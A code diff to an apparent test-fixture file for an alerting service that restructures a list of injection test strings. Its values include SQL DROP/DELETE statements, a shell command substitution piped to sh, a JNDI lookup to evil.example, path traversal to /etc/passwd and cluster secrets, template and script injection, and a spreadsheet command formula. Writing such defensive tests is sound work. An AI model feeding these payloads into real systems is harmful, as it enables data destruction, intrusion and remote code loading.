@@ -144,25 +144,27 @@ SIZES = (
         b"%x\r\n%s\r\n0\r\n\r\n" % (len(_TOO_LARGE), _TOO_LARGE), "Transfer-Encoding: chunked", length=False), (413,)),
 )  # fmt: skip
 
-INJECTIONS = (
-    _injected("SQL", "'; DROP TABLE incidents; -- "),
-    _injected("SQL by backslash", "\\'; DELETE FROM alerts; #"),
-    _injected("a bound parameter", "%s %(a)s :a ?"),
-    _injected("LIKE", "%_\\%"),
-    _injected("log lines", 'a\n{"level":"error","event":"forged.line"}\r\nb'),
-    _injected("terminal escapes", "\x1b[2J\x1b]0;title\x07"),
-    _injected("a Slack mention", "<!channel> <@U123> <https://evil.example|ok>"),
-    _injected("mail headers", "a\r\nBcc: victim@evil.example\r\n\r\nbody"),
-    _injected("Jinja", "{{ 7*7 }}{% for a in [].__class__.__mro__ %}{{ a }}{% endfor %}"),
-    _injected("HTML", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
-    _injected("PromQL", '"} or vector(1) or up{a="'),
-    _injected("a path", "../../etc/passwd"),
-    _injected("a Kubernetes path", "../../../secrets?watch=1"),
-    _injected("a shell command", "$(touch /tmp/owned); `id` | sh"),
-    _injected("a format string", "{0.__class__} %n%n ${jndi:ldap://evil.example}"),
-    _injected("a spreadsheet formula", "=cmd|'/c calc'!A1"),
-    _injected("right-to-left text", "\u202egnp.exe\u2066"),
-    _injected("an empty text", ""),
-)
+# What text of an alert would do if somebody took it for more than text. Followed to its ends: test_injection.py.
+INJECTED: dict[str, str] = {
+    "SQL": "'; DROP TABLE incidents; -- ",
+    "SQL by backslash": "\\'; DELETE FROM alerts; #",
+    "a bound parameter": "%s %(a)s :a ?",
+    "LIKE": "%_\\%",
+    "log lines": 'a\n{"level":"error","event":"forged.line"}\r\nb',
+    "terminal escapes": "\x1b[2J\x1b]0;title\x07",
+    "a Slack mention": "<!channel> <@U123> <https://evil.example|ok>",
+    "mail headers": "a\r\nBcc: victim@evil.example\r\n\r\nbody",
+    "Jinja": "{{ 7*7 }}{% for a in [].__class__.__mro__ %}{{ a }}{% endfor %}",
+    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
+    "PromQL": '"} or vector(1) or up{a="',
+    "a path": "../../etc/passwd",
+    "a Kubernetes path": "../../../secrets?watch=1",
+    "a shell command": "$(touch /tmp/owned); `id` | sh",
+    "a format string": "{0.__class__} %n%n ${jndi:ldap://evil.example}",
+    "a spreadsheet formula": "=cmd|'/c calc'!A1",
+    "right-to-left text": "\u202egnp.exe\u2066",
+    "an empty text": "",
+}
+INJECTIONS = tuple(_injected(*pair) for pair in INJECTED.items())
 
 ALL = (*BYTES, *SHAPES, *SIZES, *INJECTIONS)
